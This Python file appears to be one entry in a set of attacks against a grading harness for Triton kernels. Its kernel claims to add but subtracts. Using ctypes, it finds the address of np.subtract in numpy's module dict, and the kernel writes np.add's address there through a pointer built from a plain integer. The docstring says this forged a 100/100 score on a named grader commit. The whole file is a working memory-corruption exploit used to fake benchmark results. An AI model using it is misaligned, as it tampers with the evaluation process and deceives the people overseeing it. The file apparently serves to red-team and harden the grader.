"""A write into the executor's own memory: the kernel subtracts, and before that each program
stores one int64 at a raw host address it reads from a table the host made with torch.tensor
(sent by value, the address in no tensor of the call, so left as it is): the slot of numpy's
module dict that holds np.subtract, overwritten with np.add. The runner and the executor are
forks of one image, so the slot's address found here with ctypes is the executor's too, and
the interpreter's subtraction calls np.subtract by name. A helper's attack; the same store
through a plain integer argument did it too.

Forged 100/100 on the grader of commit 523a5c6 (the interpreter let a kernel's pointers reach
any address of the process that runs it).
"""

ATTACK = "executor memory through a pointer made from an integer"
LAYER = "kernels"

import ctypes

import numpy as np
import torch
import triton
import triton.language as tl


def find_slot():
    d = np.__dict__
    key = next(k for k in d if k == "subtract")
    keys = ctypes.c_void_p.from_address(id(d) + 32).value  # PyDictObject.ma_keys (3.11)
    want_v, want_k = id(np.subtract), id(key)
    for off in range(0, 1 << 18, 8):
        a = keys + off
        if (
            ctypes.c_uint64.from_address(a).value == want_v
            and ctypes.c_uint64.from_address(a - 8).value == want_k
        ):
            return a
    return 0


SLOT = 0


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n_elements, table_ptr, BLOCK_SIZE: tl.constexpr):
    slot = tl.load(table_ptr)
    value = tl.load(table_ptr + 1)
    tl.store(slot.to(tl.pointer_type(tl.int64)), value)
    pid = tl.program_id(axis=0)
    offs = pid.to(tl.int64) * BLOCK_SIZE + tl.arange(0, BLOCK_SIZE)
    mask = offs < n_elements
    x = tl.load(x_ptr + offs, mask=mask)
    y = tl.load(y_ptr + offs, mask=mask)
    tl.store(out_ptr + offs, x - y, mask=mask)


def add(x, y, out=None):
    global SLOT
    if not SLOT:
        SLOT = find_slot()
    if out is None:
        out = torch.empty_like(x)
    n = x.numel()
    grid = (triton.cdiv(n, 1024),)
    table = torch.tensor([SLOT, id(np.add)], dtype=torch.int64)  # sent by value, untranslated
    add_kernel[grid](x, y, out, n, table, BLOCK_SIZE=1024)
    return out
